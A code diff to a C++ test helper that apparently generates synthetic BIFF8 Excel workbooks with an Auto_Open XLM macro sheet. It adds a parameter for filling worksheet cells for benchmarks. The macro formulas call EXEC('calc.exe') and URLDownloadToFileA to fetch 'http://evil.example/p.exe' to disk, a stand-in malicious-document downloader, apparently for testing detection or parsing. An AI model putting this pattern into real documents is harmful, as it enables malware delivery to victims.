@@ -50,8 +50,10 @@ struct Workbook {
 // and `macro_name` (macro sheet, hsState `state`), an optional built-in
 // Auto_Open NAME, optional FILEPASS data; then the two substreams. The macro
 // sheet calls EXEC("calc.exe") and CALL("urlmon","URLDownloadToFileA",...).
+// `sheet1_cells` (records) fill the worksheet, e.g. for benchmarks.
 inline Workbook biff8_workbook(int state = 2, bool auto_open = true, const std::string& filepass = {},
-                               const std::string& macro_name = "Macro1") {
+                               const std::string& macro_name = "Macro1",
+                               const std::string& sheet1_cells = {}) {
   auto bof = [](std::uint16_t dt) { return biff(0x0809, u16(0x0600) + u16(dt) + std::string(12, '\0')); };
   auto sheet = [](std::uint32_t pos, int st, int dt, const std::string& name) {
     return biff(0x0085, u32(pos) + u8(std::uint8_t(st)) + u8(std::uint8_t(dt)) +
@@ -66,7 +68,7 @@ inline Workbook biff8_workbook(int state = 2, bool auto_open = true, const std::
                             u16(0) + std::string(4, '\0') + u8(0) + u8(1) + rgce);
   }
   std::string eof = biff(0x000A, "");
-  std::string sheet1 = bof(0x0010) + eof;
+  std::string sheet1 = bof(0x0010) + sheet1_cells + eof;
   std::string exec = ptg_str("calc.exe") + ptg_funcvar(1, 110);
   std::string call = ptg_str("urlmon") + ptg_str("URLDownloadToFileA") + ptg_str("JJCCJJ") + u8(0x1E) +
                      u16(0) + ptg_str("http://evil.example/p.exe") + ptg_str("C:\\p.exe") +
